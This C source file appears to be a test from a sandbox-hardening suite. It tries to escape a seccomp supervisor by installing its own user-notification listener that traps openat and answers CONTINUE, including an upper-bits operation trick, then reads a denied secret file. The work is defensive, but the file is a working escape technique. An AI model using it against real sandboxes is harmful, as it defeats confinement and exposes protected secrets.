/* Attack: install a second seccomp filter with SECCOMP_FILTER_FLAG_NEW_LISTENER
 * that traps openat, answer its notifications with
 * SECCOMP_USER_NOTIF_FLAG_CONTINUE from a thread, and open a denied file.
 * The most recent filter's USER_NOTIF wins, so the supervisor would never
 * see the open. Variants: seccomp(SECCOMP_SET_MODE_FILTER, NEW_LISTENER);
 * the same with garbage in the upper 32 bits of the operation (the kernel
 * takes an unsigned int, a 64-bit BPF compare does not); and
 * NEW_LISTENER|TSYNC_ESRCH.
 *
 * Stops it: layer 3, the filter answers seccomp(SET_MODE_FILTER,
 * NEW_LISTENER) with EPERM; and the kernel allows one listener per filter
 * chain (EBUSY while the supervisor holds its own).
 * Natively: the listener installs, the open continues and reads the secret
 * (ESCAPED).
 *
 * Usage: seccomp_listener TOKEN DENIED_PATH
 */
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <stddef.h>
#include <stdint.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/syscall.h>

#include "escape.h"

static int listener = -1;

static void *answer_continue(void *arg)
{
	(void)arg;
	for (;;) {
		struct seccomp_notif req;
		struct seccomp_notif_resp resp;
		memset(&req, 0, sizeof(req));
		if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &req) < 0) {
			if (errno == EINTR || errno == ENOENT)
				continue;
			return NULL;
		}
		memset(&resp, 0, sizeof(resp));
		resp.id = req.id;
		resp.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
		ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &resp);
	}
}

int main(int argc, char **argv)
{
	escape_init(argc, argv, "seccomp-new-listener", 1, "DENIED_PATH");
	struct sock_fprog prog = openat_notify_filter();
	static const struct {
		const char *name;
		unsigned long op, flags;
	} variants[] = {
	    {"NEW_LISTENER", SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER},
	    {"op with upper bits set", 0x100000000UL | SECCOMP_SET_MODE_FILTER,
	     SECCOMP_FILTER_FLAG_NEW_LISTENER},
	    {"NEW_LISTENER|TSYNC_ESRCH", SECCOMP_SET_MODE_FILTER,
	     SECCOMP_FILTER_FLAG_NEW_LISTENER | SECCOMP_FILTER_FLAG_TSYNC_ESRCH},
	};
	const char *won = NULL;
	for (size_t i = 0; i < sizeof(variants) / sizeof(variants[0]) && listener < 0; i++) {
		listener = (int)syscall(SYS_seccomp, variants[i].op, variants[i].flags, &prog);
		if (listener < 0)
			escape_note("%s: %s", variants[i].name, strerror(errno));
		else
			won = variants[i].name;
	}
	if (listener < 0)
		contained();
	pthread_t t;
	if (pthread_create(&t, NULL, answer_continue, NULL) != 0)
		setup_failed("pthread_create");
	int fd = (int)syscall(SYS_openat, AT_FDCWD, argv[2], O_RDONLY | O_CLOEXEC);
	if (fd < 0) {
		escape_note("listener from %s installed; open: %s", won, strerror(errno));
		contained();
	}
	char shown[256];
	if (fd_has_token(fd, shown, sizeof(shown)))
		escaped("own listener (%s) answered CONTINUE: read \"%s\"", won, shown);
	escape_note("listener from %s installed; opened, no secret", won);
	contained();
}
